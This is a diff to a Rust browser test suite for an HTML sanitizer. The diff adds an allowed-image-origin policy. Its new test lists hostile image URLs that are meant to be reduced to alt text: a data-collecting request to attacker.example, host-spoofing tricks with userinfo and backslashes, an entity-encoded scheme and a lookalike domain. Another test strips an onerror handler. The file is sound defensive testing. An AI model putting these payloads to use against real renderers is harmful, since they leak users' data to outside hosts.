@@ -1,12 +1,14 @@
 //! The HTML sanitizer in a real Chromium: the shared hostile inputs come out obeying the markup
 //! policy (as HTML answers, as Markdown, and as Markdown streamed prefix by prefix), ordinary
-//! formatting survives, and sanitizing is stable (sanitizing the output again changes nothing,
-//! so re-parsing can't mutate it).
+//! formatting survives, images load only from the allowed origins (others show their alt
+//! text), and sanitizing is stable (sanitizing the output again changes nothing, so re-parsing
+//! can't mutate it).
 #![cfg(target_arch = "wasm32")]
 #![allow(clippy::unwrap_used)] // tests: a panic is the failure report
 
-use lexstream_client::sanitize::sanitize_html;
+use lexstream_client::sanitize;
 use lexstream_protocol::render::audit::violations;
+use lexstream_protocol::render::policy::ImageOrigins;
 use lexstream_protocol::render::{StreamingMarkdown, render_markdown};
 use wasm_bindgen_test::*;
 
@@ -16,8 +18,18 @@ fn hostile_inputs() -> Vec<String> {
     serde_json::from_str(include_str!("../../protocol/tests/fixtures/hostile_markup.json")).unwrap()
 }
 
+/// The origin this page's owner allows images from: hostile inputs try to pass for it.
+fn cdn() -> ImageOrigins {
+    ImageOrigins::parse(&["https://cdn.example.com"]).unwrap()
+}
+
+/// Sanitizes as a widget configured with [`cdn`] does.
+fn sanitize_html(markup: &str) -> String {
+    sanitize::sanitize_html(markup, &cdn())
+}
+
 fn assert_obeys_policy(input: &str, output: &str) {
-    let found = violations(output);
+    let found = violations(output, &cdn());
     assert!(found.is_empty(), "{found:?}\n input: {input}\noutput: {output}");
     assert_eq!(sanitize_html(output), output, "not stable\n input: {input}");
 }
@@ -34,7 +46,7 @@ fn hostile_html_answers_come_out_harmless() {
 #[wasm_bindgen_test]
 fn hostile_markdown_answers_come_out_harmless() {
     for input in hostile_inputs() {
-        assert_obeys_policy(&input, &sanitize_html(&render_markdown(&input)));
+        assert_obeys_policy(&input, &sanitize_html(&render_markdown(&input, &cdn())));
     }
 }
 
@@ -43,7 +55,7 @@ fn hostile_markdown_answers_come_out_harmless() {
 #[wasm_bindgen_test]
 fn hostile_markdown_streamed_prefix_by_prefix_comes_out_harmless() {
     for input in hostile_inputs() {
-        let mut renderer = StreamingMarkdown::new();
+        let mut renderer = StreamingMarkdown::new(cdn());
         let ends = input.char_indices().map(|(at, _)| at).skip(1).chain([input.len()]);
         for end in ends {
             let update = renderer.update(&input[..end]);
@@ -82,9 +94,51 @@ fn unsafe_parts_go_but_the_readable_text_stays() {
 
 #[wasm_bindgen_test]
 fn markdown_tables_and_code_survive_the_sanitizer() {
-    let html = sanitize_html(&render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```"));
+    let html = sanitize_html(&render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```", &cdn()));
     assert_eq!(
         html,
         "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>\n<pre><code>&lt;x&gt;\n</code></pre>\n"
     );
+}
+
+#[wasm_bindgen_test]
+fn an_image_from_an_allowed_origin_is_kept() {
+    assert_eq!(
+        sanitize_html("<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\" onerror=\"x()\">"),
+        "<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\">"
+    );
+    let markdown = render_markdown("![a cat](https://cdn.example.com/cat.png)", &cdn());
+    assert_eq!(
+        sanitize_html(&markdown),
+        "<p><img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\"></p>\n"
+    );
+}
+
+#[wasm_bindgen_test]
+fn hostile_image_urls_are_shown_as_their_alt_text() {
+    for src in [
+        "/account/logout",
+        "account/logout",
+        "//cdn.example.com/cat.png",
+        "https://attacker.example/collect?q=secret",
+        "https://cdn.example.com@attacker.example/cat.png",
+        "https://attacker.example\\@cdn.example.com/cat.png",
+        "https:cdn.example.com/cat.png",
+        "&#104;ttps://attacker.example/cat.png",
+        "https://cdn.example.com.attacker.example/cat.png",
+        "data:image/png;base64,AA==",
+    ] {
+        let html = sanitize_html(&format!("<p>See <img src=\"{src}\" alt=\"the chart\">.</p>"));
+        assert_eq!(html, "<p>See the chart.</p>", "{src}");
+    }
+    assert_eq!(sanitize_html("<p>No source <img alt=\"here\"></p>"), "<p>No source here</p>");
+}
+
+#[wasm_bindgen_test]
+fn without_allowed_origins_no_image_survives() {
+    let html = sanitize::sanitize_html(
+        "<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\">",
+        &ImageOrigins::none(),
+    );
+    assert_eq!(html, "a cat");
 }
